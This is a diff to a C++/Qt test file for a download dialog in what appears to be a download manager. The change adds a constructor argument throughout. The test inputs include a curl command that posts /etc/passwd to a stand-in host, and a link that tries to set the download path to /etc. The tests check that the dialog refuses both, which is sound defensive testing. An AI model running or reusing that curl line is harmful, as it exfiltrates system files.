@@ -74,7 +74,7 @@ private slots:
     void saysWhyACurlCommandIsNoDownload()
     {
         const DownloadDialog dialog(
-            u"curl -d @/etc/passwd https://h.example/a"_s, u"/tmp"_s, nullptr);
+            u"curl -d @/etc/passwd https://h.example/a"_s, u"/tmp"_s, nullptr, nullptr);
 
         QVERIFY2(said(dialog).endsWith(u"--data"_s), qPrintable(said(dialog)));
         QVERIFY(!canDownload(dialog));
@@ -95,7 +95,7 @@ private slots:
     void refusesALinkThatNamesAPath()
     {
         const DownloadDialog dialog(
-            u"waybill:add?url=https://h.example/a&into=/etc"_s, u"/tmp"_s, nullptr);
+            u"waybill:add?url=https://h.example/a&into=/etc"_s, u"/tmp"_s, nullptr, nullptr);
 
         QVERIFY(!said(dialog).isEmpty());
         QVERIFY(!canDownload(dialog));
@@ -104,7 +104,7 @@ private slots:
 
     void turnsWhatIsPastedIntoUrls()
     {
-        DownloadDialog dialog(u"https://h.example/1"_s, u"/tmp"_s, nullptr);
+        DownloadDialog dialog(u"https://h.example/1"_s, u"/tmp"_s, nullptr, nullptr);
         auto *const edit = dialog.findChild<LinksEdit *>();
         edit->moveCursor(QTextCursor::End);
 
@@ -118,7 +118,7 @@ private slots:
 
     void readsACommandThatIsTyped()
     {
-        DownloadDialog dialog(QString(), u"/tmp"_s, nullptr);
+        DownloadDialog dialog(QString(), u"/tmp"_s, nullptr, nullptr);
 
         dialog.findChild<LinksEdit *>()->setPlainText(u"curl -k https://h.example/2"_s);
 
